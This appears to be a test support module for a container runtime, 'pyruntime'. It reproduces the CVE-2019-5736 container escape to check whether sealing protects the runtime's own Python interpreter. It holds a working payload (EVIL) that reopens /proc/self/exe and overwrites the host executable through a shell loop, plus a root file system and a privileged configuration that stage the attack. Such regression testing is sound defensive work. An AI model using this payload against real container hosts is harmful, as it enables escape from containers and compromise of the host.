"""pyruntime installed with a Python of its own, for attacks on that Python (CVE-2019-5736)."""

from __future__ import annotations

import hashlib
import os
import shutil
from pathlib import Path

from support.bundles import Config
from support.runtime import LAUNCHER, REPOSITORY, Runtime, compile_launcher

SYSTEM_PYTHON = Path(os.path.realpath("/usr/bin/python3"))
# What any container gets, and what one gets that administers its own mounts.
DEFAULT = ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_FSETID", "CAP_KILL", "CAP_SETGID", "CAP_SETUID"]
CAPABILITIES = {"default": DEFAULT, "admin": [*DEFAULT, "CAP_SYS_ADMIN", "CAP_SYS_PTRACE"]}

# Carried out by the runtime's own interpreter, because the container's program is `/proc/self/exe`: hand the executable
# to a shell, which waits until nobody runs it any more (until then: ETXTBSY) and writes to it, by force if it can.
EVIL = """
import os
exe = os.open("/proc/self/exe", os.O_PATH)
os.set_inheritable(exe, True)
script = (
    "file=/proc/self/fd/%d; echo reached > /shared/reached; for attempt in 1 2 3 4 5; do"
    " mount -o remount,rw,bind $file; (echo EVIL >> $file) && echo written > /shared/written && break; sleep 0.1;"
    " done; echo done > /shared/done" % exe
)
os.execv("/bin/sh", ["sh", "-c", script])
"""


class Installation:
    """pyruntime with a Python of its own, sealed by the Python code or by the compiled launcher or not at all."""

    def __init__(self, directory: Path, sealed: str) -> None:
        self.python = directory / "bin" / "python3"
        self.python.parent.mkdir(parents=True)
        shutil.copy(SYSTEM_PYTHON, self.python)
        (directory / "pyvenv.cfg").write_text(f"home = {SYSTEM_PYTHON.parent}\n")
        launcher = directory / "bin" / "pyruntime"
        if sealed == "launcher":
            compile_launcher(launcher, "/nowhere")
        else:
            launcher.write_text(LAUNCHER.read_text().replace("/run/pyruntime-interpreter", "/nowhere"))
            launcher.chmod(0o755)
        shutil.copytree(REPOSITORY / "pyruntime", directory / "pyruntime")
        main = directory / "pyruntime" / "__main__.py"
        text = main.read_text()
        assert "seal.protect(" in text
        if sealed == "unsealed":
            main.write_text(text.replace("sealed = must_seal(words[1:])", "sealed = False"))
        elif sealed == "launcher":  # nor does Python help
            main.write_text(text.replace("seal.protect(", "print("))
        self.sealed = sealed != "unsealed"
        self.runtime = Runtime(launcher, directory / "state")
        self.before = self.digest()

    def digest(self) -> str:
        return hashlib.sha256(self.python.read_bytes()).hexdigest()

    def overwritten(self) -> bool:
        return self.digest() != self.before


def evil_root(root: Path, shared: Path) -> None:
    """A root file system for `evil_change`: `/evil` is a script that names the runtime's executable as interpreter."""
    shared.mkdir()
    for name in ("proc", "dev", "sys", "usr", "shared", "etc"):
        (root / name).mkdir(parents=True)
    for name in ("bin", "lib", "lib64"):
        (root / name).symlink_to(f"usr/{name}")
    (root / "evil").write_text("#!/proc/self/exe\n" + EVIL)
    (root / "evil").chmod(0o755)


def evil_change(config: Config, shared: Path, capabilities: str) -> None:
    """A configuration in which the attack could succeed: the host's programs, and the capabilities named."""
    for name in ("bounding", "effective", "permitted"):
        config["process"]["capabilities"][name] = CAPABILITIES[capabilities]
    config["process"]["noNewPrivileges"] = False
    config["mounts"] += [
        {"destination": "/usr", "type": "bind", "source": "/usr", "options": ["bind", "ro"]},
        {"destination": "/shared", "type": "bind", "source": str(shared), "options": ["bind"]},
    ]
